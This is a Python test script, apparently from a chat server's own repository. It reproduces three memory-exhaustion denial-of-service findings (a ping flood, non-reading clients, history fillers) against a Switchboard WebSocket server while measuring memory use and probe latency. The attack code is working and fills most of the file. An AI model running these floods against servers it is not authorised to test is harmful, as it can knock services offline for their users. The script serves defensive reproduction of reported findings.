#!/usr/bin/env python3
"""Memory attacks against a running Switchboard server (issue 11, findings F1, F2, F3).

Standard library only. Each scenario runs against ws://HOST:PORT/ws with anonymous access
(the default of a server without a key), samples the server's RSS from /proc/PID/status
(so run it on the server's machine and pass --pid), and probes the server meanwhile with a
well-behaved client that sends a JSON `ping` every 200 ms and times its `pong`.

Scenarios:
  ping-flood      one connection writes 125-byte pings as fast as it can and never reads
  non-readers     N clients (default 300) each send 5 `history` requests (12 messages each,
                  --history-limit) for a room holding 100 messages of 64 KB and never read;
                  each sends a ping frame every 10 s
  history-fillers N clients (default 20) each publish 64 KB messages at 28/s, round-robin
                  over 100 rooms of their own (reading their replies)

Prints one JSON object: RSS at start, peak and end (MiB), growth, how the attackers ended,
and the probe's RTT percentiles and failures.

Example:
  switchboard serve --listen 127.0.0.1:8090 & PID=$!
  python3 bench/attacks/attack.py ping-flood --addr 127.0.0.1:8090 --pid $PID -d 20
"""

import argparse
import base64
import json
import multiprocessing
import os
import socket
import statistics
import struct
import threading
import time

# --------------------------------------------------------------------------------------------
# WebSocket, by hand (client frames are masked; the mask does not matter to the server).


def frame(opcode, payload, fin=True):
    head = bytearray([(0x80 if fin else 0) | opcode])
    n = len(payload)
    if n < 126:
        head.append(0x80 | n)
    elif n < 65536:
        head.append(0x80 | 126)
        head += struct.pack(">H", n)
    else:
        head.append(0x80 | 127)
        head += struct.pack(">Q", n)
    mask = os.urandom(4)
    head += mask
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload)) if n < 4096 else _mask(payload, mask)
    return bytes(head) + body


def _mask(payload, mask):
    # Fast enough for 64 KB: XOR as big integers.
    n = len(payload)
    key = (mask * (n // 4 + 1))[:n]
    return (int.from_bytes(payload, "big") ^ int.from_bytes(key, "big")).to_bytes(n, "big")


def text(obj):
    return frame(0x1, json.dumps(obj, separators=(",", ":")).encode())


def connect(addr, user, rcvbuf=None):
    host, port = addr.rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(10)
    sock.connect((host, int(port)))
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall(
        (
            f"GET /ws?user={user} HTTP/1.1\r\nHost: {addr}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        if not chunk:
            raise ConnectionError("closed during the upgrade")
        head += chunk
    if b" 101 " not in head.split(b"\r\n", 1)[0]:
        raise ConnectionError(head.split(b"\r\n", 1)[0].decode(errors="replace"))
    return sock


class Reader:
    """Reads frames from a socket (in the caller's thread)."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def _need(self, n):
        while len(self.buf) < n:
            chunk = self.sock.recv(1 << 16)
            if not chunk:
                raise ConnectionError("closed")
            self.buf += chunk

    def next(self):
        self._need(2)
        b0, b1 = self.buf[0], self.buf[1]
        n, at = b1 & 0x7F, 2
        if n == 126:
            self._need(4)
            n, at = struct.unpack(">H", self.buf[2:4])[0], 4
        elif n == 127:
            self._need(10)
            n, at = struct.unpack(">Q", self.buf[2:10])[0], 10
        self._need(at + n)
        payload, self.buf = self.buf[at : at + n], self.buf[at + n :]
        return b0 & 0x0F, payload


def drain_forever(sock):
    """Reads and discards everything (a well-behaved client), until the socket ends."""
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


# --------------------------------------------------------------------------------------------
# Measurement


class Rss(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.samples = []
        self.stop = threading.Event()

    def read(self):
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def run(self):
        while not self.stop.is_set():
            self.samples.append((time.monotonic(), self.read()))
            time.sleep(0.1)


class Probe(multiprocessing.Process):
    """A well-behaved client: a JSON ping every 200 ms, RTT of each pong. A process of its
    own, so that the attackers' threads do not hold it up (the GIL)."""

    def __init__(self, addr):
        super().__init__(daemon=True)
        self.addr = addr
        self.stop = multiprocessing.Event()
        self.results = multiprocessing.Queue()
        self.rtts = []
        self.failures = []

    def collect(self):
        self.rtts, self.failures = self.results.get(timeout=10)

    def run(self):
        try:
            self._pings()
        finally:
            self.results.put((self.rtts, self.failures))

    def _pings(self):
        try:
            sock = connect(self.addr, "probe")
            reader = Reader(sock)
            n = 0
            while not self.stop.is_set():
                n += 1
                sent = time.monotonic()
                sock.sendall(text({"type": "ping", "id": n}))
                while True:
                    opcode, payload = reader.next()
                    if opcode == 0x9:
                        sock.sendall(frame(0xA, payload))
                        continue
                    if opcode == 0x8:
                        raise ConnectionError(f"closed: {payload[:2].hex()} {payload[2:]!r}")
                    if opcode == 0x1 and json.loads(payload).get("id") == n:
                        break
                self.rtts.append((time.monotonic() - sent) * 1000)
                time.sleep(0.2)
        except Exception as err:  # noqa: BLE001 - reported, not raised
            self.failures.append(str(err))


def percentile(values, p):
    if not values:
        return None
    values = sorted(values)
    return round(values[min(len(values) - 1, int(len(values) * p))], 2)


# --------------------------------------------------------------------------------------------
# Scenarios


def ping_flood(args, result):
    sock = connect(args.addr, "flood", rcvbuf=4096)
    ping = frame(0x9, b"p" * 125) * 512
    sent, started = 0, time.monotonic()
    sock.settimeout(1)
    while time.monotonic() - started < args.duration:
        try:
            sock.send(ping)
            sent += 512
        except socket.timeout:
            continue
        except OSError as err:
            result["attacker_closed_after_s"] = round(time.monotonic() - started, 2)
            result["attacker_error"] = str(err)
            break
    result["pings_sent"] = sent


def fill_room(addr, room, count, size):
    """A client that publishes `count` messages of `size` bytes into `room` and stays."""
    sock = connect(addr, "filler")
    threading.Thread(target=drain_forever, args=(sock,), daemon=True).start()
    sock.sendall(text({"type": "join", "room": room}))
    data = "x" * size
    for i in range(count):
        sock.sendall(text({"type": "publish", "room": room, "data": data}))
        time.sleep(1 / 25)  # under the default rate limit of 30/s
    return sock


def non_readers(args, result):
    keep = fill_room(args.addr, "big", 100, 64_000)
    socks, refused = [], 0
    # 12 messages of 64 KB per reply (770 KB): five of them (3.85 MB) fit the default 4 MiB
    # outbox even before the kernel's socket buffers take their share.
    request = text({"type": "history", "room": "big", "limit": args.history_limit}) * args.requests
    for i in range(args.clients):
        try:
            sock = connect(args.addr, f"nr{i}", rcvbuf=args.rcvbuf)
            sock.sendall(request)
            socks.append(sock)
        except OSError as err:
            refused += 1
            result.setdefault("refused_first_error", str(err))
    result["non_readers"] = len(socks)
    result["refused"] = refused
    started, alive = time.monotonic(), len(socks)
    keepalive = text({"type": "ping"})
    while time.monotonic() - started < args.duration:
        time.sleep(min(10, args.duration))
        alive = 0
        for sock in socks:
            try:
                sock.settimeout(0.05)
                sock.send(keepalive)
                alive += 1
            except OSError:
                pass
    result["non_readers_still_open"] = alive
    keep.close()


def history_fillers(args, result):
    data = "x" * 64_000
    stop = threading.Event()
    published = [0] * args.clients
    errors = []

    def filler(n):
        try:
            sock = connect(args.addr, f"hf{n}")
            threading.Thread(target=drain_forever, args=(sock,), daemon=True).start()
            rooms = [f"hf{n}-{r}" for r in range(100)]
            for room in rooms:
                sock.sendall(text({"type": "join", "room": room}))
                time.sleep(1 / 28)
            i = 0
            while not stop.is_set():
                sock.sendall(text({"type": "publish", "room": rooms[i % 100], "data": data}))
                published[n] += 1
                i += 1
                time.sleep(1 / 28)
        except OSError as err:
            errors.append(str(err))

    threads = [threading.Thread(target=filler, args=(n,), daemon=True) for n in range(args.clients)]
    for t in threads:
        t.start()
    time.sleep(args.duration)
    stop.set()
    for t in threads:
        t.join(timeout=2)
    result["published"] = sum(published)
    result["filler_errors"] = errors[:3]


SCENARIOS = {
    "ping-flood": (ping_flood, 1),
    "non-readers": (non_readers, 300),
    "history-fillers": (history_fillers, 20),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("scenario", choices=SCENARIOS)
    parser.add_argument("--addr", default="127.0.0.1:8080")
    parser.add_argument("--pid", type=int, required=True, help="the server's process id (for RSS)")
    parser.add_argument("-d", "--duration", type=float, default=20)
    parser.add_argument("-c", "--clients", type=int, help="attacking clients (scenario default)")
    parser.add_argument("--history-limit", type=int, default=12, help="non-readers: messages per reply")
    parser.add_argument("--requests", type=int, default=5, help="non-readers: history requests each")
    parser.add_argument("--rcvbuf", type=int, default=4096, help="non-readers: SO_RCVBUF (small: less in the kernel, more in the server)")
    parser.add_argument("--settle", type=float, default=3, help="seconds sampled after the attack")
    args = parser.parse_args()
    run, clients = SCENARIOS[args.scenario]
    args.clients = args.clients or clients
    rss, probe = Rss(args.pid), Probe(args.addr)
    start_rss = rss.read()
    rss.start()
    probe.start()
    result = {"scenario": args.scenario, "clients": args.clients, "duration_s": args.duration}
    run(args, result)
    time.sleep(args.settle)
    probe.stop.set()
    rss.stop.set()
    probe.collect()
    probe.join(timeout=5)
    rss.join(timeout=1)
    peak = max(v for _, v in rss.samples)
    result.update(
        rss_start_mib=round(start_rss, 1),
        rss_peak_mib=round(peak, 1),
        rss_end_mib=round(rss.read(), 1),
        rss_growth_peak_mib=round(peak - start_rss, 1),
        probe_pongs=len(probe.rtts),
        probe_rtt_ms_p50=percentile(probe.rtts, 0.5),
        probe_rtt_ms_p99=percentile(probe.rtts, 0.99),
        probe_rtt_ms_max=round(max(probe.rtts), 2) if probe.rtts else None,
        probe_failures=probe.failures,
    )
    print(json.dumps(result))


if __name__ == "__main__":
    main()
